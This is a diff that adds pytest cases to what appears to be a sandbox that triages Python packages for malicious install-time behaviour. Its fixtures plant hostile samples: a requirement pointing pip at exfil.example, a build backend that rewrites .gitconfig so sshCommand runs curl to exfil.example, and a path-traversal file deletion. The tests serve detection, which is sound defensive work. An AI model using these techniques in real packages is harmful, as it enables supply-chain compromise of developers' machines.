@@ -82,6 +82,52 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
     assert "192.0.2.78:53" in targets(report), report["network"]
 
 
+def test_who_keeps_the_resolver_waiting_is_seen(triage: Triage, index: Index) -> None:
+    source = """
+question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7exfil-1\\0\\0\\1\\0\\1"
+with socket.create_connection(("127.0.0.1", 53)) as one:
+    time.sleep(1.5)
+    one.sendall(len(question).to_bytes(2, "big") + question)
+"""
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    assert targets(report, ("dns",)) == {"(malformed question)"}
+
+
+def test_a_requirement_that_leads_pip_elsewhere_is_seen(triage: Triage, index: Index) -> None:
+    index.add_wheel("probe", "1.0", {"probe.py": ""}, requires=["stage-two @ https://exfil.example/stage_two-1.0.zip"])
+    code, report, _ = triage("probe")
+    assert (code, report["outcome"]) == (1, "failed"), report["reason"]
+    assert "exfil.example" in targets(report, ("dns",))
+
+
+@pytest.mark.skipif(not Path("/usr/bin/git").exists(), reason="pip needs git to be led to it")
+def test_what_git_starts_for_a_requirement_is_not_pip_s_own(triage: Triage, index: Index) -> None:
+    """Its command is the package's: a build can write a .gitconfig before pip comes to the requirements."""
+    backend = """
+open("/home/dev/.gitconfig", "w").write("[core]\\nsshCommand = curl http://exfil.example/ #\\n")
+"""
+    index.add_wheel("probe", "1.0", {"probe.py": ""}, requires=["a-build", "b-requirement"])
+    index.add_backend_sdist("a-build", "1.0", backend, {"a_build.py": ""})
+    stage_two = "stage-two @ git+ssh://somewhere.example/stage-two"
+    index.add_wheel("b-requirement", "1.0", {"b_requirement.py": ""}, requires=[stage_two])
+    code, report, _ = triage("probe")
+    assert (code, report["outcome"]) == (1, "failed"), report["reason"]
+    assert any("curl" in title for title in findings(report, "process.spawn")), report["findings"]
+
+
+def test_what_is_deleted_by_way_of_pip_s_folder_is_seen(triage: Triage, index: Index) -> None:
+    backend = """
+import os
+os.makedirs("/tmp/pip-x", exist_ok=True)
+open("/home/dev/mark", "w").close()
+os.remove("/tmp/pip-x/../../home/dev/mark")
+"""
+    index.add_backend_sdist("probe", "1.0", backend, {"probe.py": ""})
+    _, report, _ = triage("probe")
+    assert ("/home/dev/mark", "deleted") in {(one["path"], one["change"]) for one in report["files"]}
+
+
 def test_deleting_by_a_folder_s_descriptor_is_seen(triage: Triage, index: Index) -> None:
     source = """
 home = os.open("/home/dev", os.O_RDONLY)
